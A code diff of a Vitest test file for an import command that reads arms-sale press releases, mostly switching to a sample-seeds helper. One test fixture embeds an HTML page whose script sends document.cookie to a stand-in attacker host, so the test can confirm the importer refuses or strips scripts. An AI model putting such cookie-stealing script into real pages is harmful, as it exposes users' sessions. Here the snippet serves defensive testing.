@@ -1,7 +1,7 @@
 import { truncateSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
-import { cleanTemp, fixture, minimalSeeds, readJson, root, runImport, seedFileCounts, snapshot, tempDir, tempSeeds } from "../support/import";
+import { cleanTemp, fixture, minimalSeeds, readJson, root, runImport, sampleSeeds, seedFileCounts, snapshot, tempDir, tempSeeds } from "../support/import";
 
 afterAll(cleanTemp);
 
@@ -25,7 +25,7 @@ describe("npm run import (the real command)", () => {
   });
 
   it("a text without its date is skipped, exit 1; --date supplies it; --dry-run writes nothing", () => {
-    const seeds = tempSeeds(["2011-05-17-pakistan-f-16"]);
+    const seeds = sampleSeeds([], ["2011-05-17-pakistan-f-16"]);
     const before = snapshot(seeds);
     const pakistan = fixture("2011-05-17-pakistan-spare-parts-no-dateline.txt");
     const skipped = runImport([pakistan, "--seeds", seeds]);
@@ -55,7 +55,7 @@ describe("npm run import (the real command)", () => {
   });
 
   it("refuses a bad --date, --value or --url before touching anything", () => {
-    const seeds = tempSeeds();
+    const seeds = sampleSeeds([]);
     const before = snapshot(seeds);
     const pakistan = fixture("2011-05-17-pakistan-spare-parts-no-dateline.txt");
     expect(runImport([pakistan, "--seeds", seeds, "--date", "2011-02-30"]).stderr).toContain('--date "2011-02-30" is not a real date written YYYY-MM-DD');
@@ -68,8 +68,9 @@ describe("npm run import (the real command)", () => {
 });
 
 describe("bad files: a message naming the file, exit 1, nothing written", () => {
+  // Into a sample of the record: a refused file is refused before the record is read.
   function refused(name: string, content: Buffer | string | null, message: RegExp, args: string[] = []) {
-    const seeds = tempSeeds();
+    const seeds = sampleSeeds([]);
     const before = snapshot(seeds);
     const file = path.join(tempDir(), name);
     if (content === null) {
@@ -95,7 +96,7 @@ describe("bad files: a message naming the file, exit 1, nothing written", () => 
   it("HTML with scripts (and with --drop-scripts the same page is read, scripts unread)", () => {
     const page = `<!doctype html><html><head><link rel="canonical" href="https://www.dsca.mil/press-media/major-arms-sales/greece-f-16-engine-follow-support"><script>fetch("https://evil.example/"+document.cookie)</script></head><body><h1>Greece – F-16 Engine Follow-On Support</h1><p>Transmittal No. 24-114</p><p>WASHINGTON, November 14, 2024 - The State Department has made a determination approving a possible Foreign Military Sale to the Government of Greece of F-16 Engine Follow-On Support and related elements of logistics and program support for an estimated cost of $160 million.</p><p onclick="steal()">The principal contractor will be General Electric Aerospace, located in Evendale, OH.</p></body></html>`;
     refused("greece.html", page, /greece\.html: is HTML with scripts: 1 script element \(<script>\) and 1 element with inline script/);
-    const seeds = tempSeeds(["2024-11-14-greece-f-16"]);
+    const seeds = sampleSeeds([], ["2024-11-14-greece-f-16"]);
     const file = path.join(tempDir(), "greece.html");
     writeFileSync(file, page);
     const read = runImport([file, "--seeds", seeds, "--drop-scripts"]);
